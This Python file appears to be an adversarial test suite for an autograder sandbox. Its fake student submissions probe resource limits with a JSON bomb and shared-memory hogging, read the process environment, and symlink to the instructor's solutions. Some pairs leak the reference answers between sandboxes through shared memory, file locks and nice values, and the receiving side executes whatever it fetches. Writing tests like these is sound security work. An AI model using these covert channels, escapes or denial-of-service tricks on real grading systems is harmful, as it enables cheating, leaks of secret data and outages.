def json_bomb() -> Submission:
    """The honest wrong solution plus a 90 MB line of nested empty lists written straight to
    the result pipe (and two deeply nested ones)."""
    return Submission("json_bomb", f"writes one {JSON_BOMB_MB} MB JSON line of nested empty "
                      "lists to the result pipe", lambda: notebook(wrong_with(after=JSON_BOMB)))


JSON_AT_LIMITS = """
import os as _os
for _i in range({count}):
    _os.write(3, b'{{"type": "seen", "grade_id": "sinusoidal_values", "seen": {{"0": {{"pe": "'
              + b"a" * {size} + b'"}}}}}}\\n')
"""


def json_at_limits() -> Submission:
    """The most the reader accepts: records just under the limit of one record, until the
    limit of one submission (the worst case for the grader's memory)."""
    from autograder.sandbox import protocol

    size = protocol.LINE_LIMIT - 1024
    code = JSON_AT_LIMITS.format(count=protocol.TOTAL_LIMIT // size, size=size)
    return Submission("json_at_limits", "writes records just under the limit of one record, "
                      "up to the limit of one submission", lambda: notebook(wrong_with(after=code)))


# --- students who share kernel objects (issue 18) ----------------------------------------------

SHM_KEY = 0x5EED
SHM_HOG_KEYS = [0x5EED0100 + i for i in range(16)]

_LIBC = '''
import ctypes as _ct, time as _time
_libc = _ct.CDLL(None, use_errno=True)
_libc.shmat.restype = _ct.c_void_p
_libc.shmat.argtypes = [_ct.c_int, _ct.c_void_p, _ct.c_int]
_FAILED = _ct.c_void_p(-1).value
'''

SHM_SENDER = _LIBC + '''
_answers = {answers!r}.encode() + b"\\0"
_id = _libc.shmget({key}, 1 << 16, 0o1666)               # IPC_CREAT | 0666
if _id >= 0:
    _at = _libc.shmat(_id, None, 0)
    if _at and _at != _FAILED:
        _ct.memmove(_at, _answers, len(_answers))
_time.sleep({hold})  # keep the segment while a student graded beside it looks
'''

SHM_RECEIVER = _LIBC + '''
def _fetch():
    for _ in range({tries}):
        _id = _libc.shmget({key}, 0, 0)
        if _id >= 0:
            _at = _libc.shmat(_id, None, 0o10000)              # SHM_RDONLY
            if _at and _at != _FAILED:
                return _ct.string_at(_at).decode()
        _time.sleep(0.1)
    return ""
exec(_fetch() or "pass")
'''

SHM_HOG = _LIBC + '''
for _key in {keys!r}:
    _id = _libc.shmget(_key, 32 << 20, 0o1666)
    if _id >= 0:
        _at = _libc.shmat(_id, None, 0)
        if _at and _at != _FAILED:
            _ct.memset(_at, 1, 32 << 20)
            _libc.shmdt(_ct.c_void_p(_at))
'''

# Byte-range locks on a file both sandboxes may read: one read lock per byte of the message,
# at offset BASE + 512 * i + byte (gaps, so that the kernel never merges two), and one at
# LENGTH + len(message); F_GETLK tells another process where the first conflicting lock is.
LOCKS = '''
import fcntl as _fcntl, os as _os, struct as _struct, time as _time
import numpy as _numpy
_BASE, _LENGTH = 1 << 40, 1 << 41

def _flock(kind, start, length):
    return _struct.pack("hhqqi4x", kind, 0, start, length, 0)
'''

LOCK_SENDER = LOCKS + '''
_answers = {answers!r}.encode()
try:
    _fd = _os.open(_numpy.__file__, _os.O_RDONLY)
    _fcntl.fcntl(_fd, _fcntl.F_SETLK, _flock(_fcntl.F_RDLCK, _LENGTH + len(_answers), 1))
    for _i, _byte in enumerate(_answers):
        _fcntl.fcntl(_fd, _fcntl.F_SETLK, _flock(_fcntl.F_RDLCK, _BASE + 512 * _i + _byte, 1))
except OSError:
    pass
_time.sleep({hold})
'''

LOCK_RECEIVER = LOCKS + '''
def _first_lock(fd, start, length):
    kind, _, found, _, _ = _struct.unpack("hhqqi4x", _fcntl.fcntl(
        fd, _fcntl.F_GETLK, _flock(_fcntl.F_WRLCK, start, length)))
    return None if kind == _fcntl.F_UNLCK else found - start

def _fetch():
    try:
        fd = _os.open(_numpy.__file__, _os.O_RDONLY)
        for _ in range({tries}):
            size = _first_lock(fd, _LENGTH, 1 << 20)
            if size:
                return bytes(_first_lock(fd, _BASE + 512 * i, 256) for i in range(size)).decode()
            _time.sleep(0.1)
    except (OSError, TypeError, ValueError):
        pass
    return ""
exec(_fetch() or "pass")
'''


def _solutions() -> str:
    """The reference solutions of chapter 01's three exercises, as a learner would type them."""
    return "\n".join(strip(g) for g in (PE, ADD, REL))


def _pair(kind: str, sender: str, receiver: str, hold: float) -> list[Submission]:
    answers = _solutions()
    return [
        Submission(f"{kind}_a_sender", f"the solution, publishing its source through {kind}",
                   lambda: notebook({PE: strip(PE) + "\n" + sender.format(
                       answers=answers, key=SHM_KEY, hold=hold)})),
        Submission(f"{kind}_b_receiver", f"no implementation: runs what it finds in {kind}",
                   lambda: notebook({PE: receiver.format(key=SHM_KEY, tries=int(hold * 10 + 20)),
                                     ADD: "pass", REL: "pass"})),
    ]


def shm_pair(hold: float = 4.0) -> list[Submission]:
    """A sender (the solution, publishing all three solutions in a SysV shared memory segment
    that it never removes) and a receiver (no implementation: it executes what it finds
    there). Sorted names: the sender is graded first with ``--jobs 1``."""
    return _pair("shm", SHM_SENDER, SHM_RECEIVER, hold)


def lock_pair(hold: float = 6.0) -> list[Submission]:
    """A sender and a receiver as in ``shm_pair``, talking through byte-range locks on
    NumPy's ``__init__.py`` (both sandboxes may read it; Landlock does not mediate locks)."""
    return _pair("locks", LOCK_SENDER, LOCK_RECEIVER, hold)


def shm_hog() -> Submission:
    """The honest wrong solution plus sixteen 32 MiB SysV segments, filled and left behind."""
    return Submission("shm_hog", "fills sixteen 32 MiB SysV shared memory segments and "
                      "leaves them", lambda: notebook(wrong_with(after=SHM_HOG.format(
                          keys=SHM_HOG_KEYS))))


def host_shm_keys() -> set[int]:
    """The keys of the SysV segments the host's IPC namespace holds (``/proc/sysvipc/shm``)."""
    with open("/proc/sysvipc/shm") as stream:
        next(stream)
        return {int(line.split()[0]) for line in stream if line.strip()}


def remove_shm(keys) -> None:
    """Remove the host's segments of ``keys`` (left by a run of a grader that let them out)."""
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    for key in keys:
        shmid = libc.shmget(key, 0, 0)
        if shmid >= 0:
            libc.shmctl(shmid, 0, None)  # IPC_RMID


STACK_ENVIRONMENT = '''
def _stack():
    """argv and the first environment, from the process's stack: from the string
    program_invocation_name points at (argv[0]) to the one AT_EXECFN points at (the last)."""
    import ctypes
    libc = ctypes.CDLL(None)
    start = ctypes.c_void_p.in_dll(libc, "program_invocation_name").value
    libc.getauxval.restype = ctypes.c_ulong
    end = libc.getauxval(31)  # AT_EXECFN
    if not start or not end or not 0 < end - start < 1 << 20:
        return "(not found)"
    return ctypes.string_at(start, end - start).replace(b"\\0", b"\\n").decode("utf-8", "replace")
'''


def symlinked_notebook() -> Submission:
    """The submitted notebook is a symbolic link to the instructor's notebook."""
    return Submission("symlinked_notebook", "the notebook is a symbolic link to the instructor's "
                      "solutions/ notebook", lambda: None,
                      link=lambda: course.notebook_path(ASSIGNMENT))


# Processes of other students, named by pid: a nice value (getpriority needs no permission on
# another process), and the pid counter. A marker nice value stands for the message here.
PRIORITY_SENDER = '''
import os as _os, time as _time
try:
    _os.setpriority(_os.PRIO_PROCESS, 0, 17)
except OSError:
    pass
_time.sleep({hold})
'''

PRIORITY_RECEIVER = '''
import json as _json, os as _os, time as _time

def _look():
    mine, found = _os.getpid(), []
    for _ in range({tries}):
        for pid in range(max(2, mine - 3000), mine + 3000):
            if pid == mine:
                continue
            try:
                if _os.getpriority(_os.PRIO_PROCESS, pid) == 17:
                    found.append(pid)
            except OSError:
                pass
        if found:
            break
        _time.sleep(0.2)
    return found

_FOUND = _look()

def sinusoidal_positional_encoding(seq_len, d_model, base=10000.0):
    raise RuntimeError("PROBE" + _json.dumps({{"nice 17 seen at": _FOUND[:5]}}))
'''


def priority_pair(hold: float = 6.0) -> list[Submission]:
    """A sender that sets its nice value to 17 and a receiver that looks for a process with
    that nice value among the pids near its own (a bit of a channel per process)."""
    return [
        Submission("prio_a_sender", "the solution, with the nice value 17 (a marker)",
                   lambda: notebook({PE: strip(PE) + "\n" + PRIORITY_SENDER.format(hold=hold)})),
        Submission("prio_b_receiver", "looks for a process with nice value 17 by pid",
                   lambda: notebook({PE: PRIORITY_RECEIVER.format(tries=int(hold * 3)),
                                     ADD: "pass", REL: "pass"})),
    ]
